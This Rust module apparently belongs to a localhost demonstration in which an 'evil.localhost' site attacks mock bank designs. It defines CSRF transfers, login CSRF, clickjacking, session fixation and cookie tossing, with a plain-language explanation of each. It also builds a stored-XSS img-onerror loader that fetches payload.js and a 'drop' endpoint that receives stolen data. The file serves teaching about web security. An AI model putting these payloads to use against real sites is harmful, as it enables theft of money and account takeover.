//! What the attacker's pages do, one entry an attack: where it is aimed, with what, and how it is told in plain words.

use lockstep_shared::design::{Carrier, Design, Kind};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::door::Door;
use crate::users::SeedUser;

/// What the attacker takes, in cents.
const AMOUNT_CENTS: u64 = 5000;
/// The same in the words of the bank's own form.
const AMOUNT: &str = "50.00";

/// The id that the attacker plants: any will do that a server has not given out.
const PLANTED: &str = "planted-by-the-attacker-0123456789abcdef";

/// One attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Attack {
    FormPost,
    Link,
    Image,
    FetchPost,
    ReadAccount,
    LogIn,
    Frame,
    PlantId,
    TossCookie,
}

/// How an attack is put into a page.
pub(super) enum Shape {
    /// A form with these fields, sent by the tab.
    Form(Vec<(&'static str, String)>),
    Link,
    Image,
    Frame,
    /// A script's own doing; with a field for a credential where it needs one.
    Script {
        credential: bool,
    },
}

impl Attack {
    pub(super) const ALL: [Self; 9] = [
        Self::FormPost,
        Self::Link,
        Self::Image,
        Self::FetchPost,
        Self::ReadAccount,
        Self::LogIn,
        Self::Frame,
        Self::PlantId,
        Self::TossCookie,
    ];

    /// The path's name, and the name in scenario files where there is one.
    pub(super) fn name(self) -> &'static str {
        match self {
            Self::FormPost => "form-post",
            Self::Link => "link",
            Self::Image => "image",
            Self::FetchPost => "fetch-post",
            Self::ReadAccount => "read-account",
            Self::LogIn => "log-in",
            Self::Frame => "frame",
            Self::PlantId => "plant-id",
            Self::TossCookie => "toss-cookie",
        }
    }

    pub(super) fn title(self) -> &'static str {
        match self {
            Self::FormPost => "A form that sends itself",
            Self::Link => "A link that moves money",
            Self::Image => "A picture that moves money",
            Self::FetchPost => "A script that moves money",
            Self::ReadAccount => "A script that reads the account",
            Self::LogIn => "Logged in as somebody else",
            Self::Frame => "The bank in a frame",
            Self::PlantId => "A planted session id",
            Self::TossCookie => "A tossed cookie",
        }
    }

    /// What the page does, in a sentence or two.
    pub(super) fn says(self) -> &'static str {
        match self {
            Self::FormPost => {
                "This page has a form with a transfer to the attacker in it, and sends it: the tab goes to the bank with a POST that you did not ask for."
            }
            Self::Link => {
                "This page leads the tab to an address of the bank’s that moves money, where the bank moves money for a GET."
            }
            Self::Image => {
                "This page shows a picture. Its address is a transfer, and the browser asks for it without leaving this page."
            }
            Self::FetchPost => {
                "This page’s script sends a transfer with your cookies, if the browser lets them go along, and then tries to read the answer."
            }
            Self::ReadAccount => {
                "This page’s script asks the bank for your account, and reads the answer where the bank says that this origin may."
            }
            Self::LogIn => {
                "This page sends the bank’s log-in form with the attacker’s own password. What you do at the bank afterwards, you do in the attacker’s account."
            }
            Self::Frame => {
                "This page shows the bank’s account page in a frame, with a transfer filled in. An attacker would make it invisible and put a button of its own under the bank’s."
            }
            Self::PlantId => {
                "This page sets a session id that the attacker knows. If the bank goes on with it when you log in, the attacker is in as well."
            }
            Self::TossCookie => {
                "This page sets the attacker’s own credential beside yours, for the bank’s host and a longer path. Servers read the first cookie of a name."
            }
        }
    }

    /// Why it has no object in a design; None where it has.
    pub(super) fn no_object(self, design: &Design) -> Option<&'static str> {
        match self {
            Self::PlantId if design.kind != Kind::Session => {
                Some("There is no id to plant: every log-in makes a credential of its own.")
            }
            Self::PlantId | Self::TossCookie if design.carry.access != Carrier::Cookie => {
                Some("The access credential travels in a header that the page writes: a cookie beside it is not read.")
            }
            _ => None,
        }
    }

    pub(super) fn shape(self, design: &Design, publisher: &SeedUser) -> Shape {
        match self {
            Self::FormPost => {
                Shape::Form(vec![("to", publisher.email.clone()), ("amount_cents", AMOUNT_CENTS.to_string())])
            }
            Self::LogIn => {
                let password = match design.mistakes.page_sends_hash() {
                    true => Sha256::digest(publisher.password.as_bytes())
                        .iter()
                        .map(|octet| format!("{octet:02x}"))
                        .collect(),
                    false => publisher.password.clone(),
                };
                Shape::Form(vec![("email", publisher.email.clone()), ("password", password)])
            }
            Self::Link => Shape::Link,
            Self::Image => Shape::Image,
            Self::Frame => Shape::Frame,
            Self::FetchPost | Self::ReadAccount | Self::PlantId => Shape::Script { credential: false },
            Self::TossCookie => Shape::Script { credential: true },
        }
    }

    /// The address that it sends the browser to.
    pub(super) fn url(self, bank: &str, publisher: &SeedUser) -> String {
        let to: String = publisher.email.bytes().map(escaped).collect();
        match self {
            Self::FormPost | Self::FetchPost => format!("{bank}/api/transfer"),
            Self::Link | Self::Image => format!("{bank}/api/transfer?amount_cents={AMOUNT_CENTS}&to={to}"),
            Self::ReadAccount => format!("{bank}/api/account"),
            Self::LogIn => format!("{bank}/auth/login"),
            Self::Frame => format!("{bank}/account?to={to}&amount={AMOUNT}"),
            Self::PlantId | Self::TossCookie => format!("{bank}/"),
        }
    }

    /// What the page's script reads.
    pub(super) fn for_script(self, door: &Door, port: &str, publisher: &SeedUser, auto: bool) -> Value {
        let bank = bank(port, &door.disk.label);
        json!({
            "kind": self.name(),
            "url": self.url(&bank, publisher),
            "fields": { "to": publisher.email, "amount_cents": AMOUNT_CENTS.to_string() },
            "in_header": door.design.carry.access != Carrier::Cookie,
            "drop": format!("http://evil.localhost{port}/drop"),
            "cookie": {
                "name": door.design.access_cookie(),
                "value": PLANTED,
                "domain": format!("{}.localhost", door.disk.label),
            },
            "auto": auto,
        })
    }
}

/// One octet of a value in a query.
fn escaped(octet: u8) -> String {
    match octet.is_ascii_alphanumeric() || b"-._~".contains(&octet) {
        true => char::from(octet).to_string(),
        false => format!("%{octet:02X}"),
    }
}

/// The origin of a design's bank.
pub(super) fn bank(port: &str, label: &str) -> String {
    format!("http://{label}.localhost{port}")
}

/// The attacker's own site, looking at one design.
pub(crate) fn evil(port: &str, label: &str) -> String {
    format!("http://evil.localhost{port}/?design={label}")
}

/// The attacker's page on a host below a design's.
pub(crate) fn sibling(port: &str, label: &str) -> String {
    format!("http://blog.{label}.localhost{port}/")
}

/// A comment that loads the payload into the page that shows it, where that page takes comments for HTML.
pub(super) fn comment(port: &str, query: &str) -> String {
    let payload = format!("http://evil.localhost{port}/payload.js{query}");
    format!(
        "<img src=x onerror=\"let s=document.createElement('script');s.src='{payload}';document.head.append(s);this.remove()\">"
    )
}

/// The part of an address that says who rides.
pub(super) fn ride(publisher: &SeedUser) -> String {
    format!("?ride={}", publisher.email.bytes().map(escaped).collect::<String>())
}
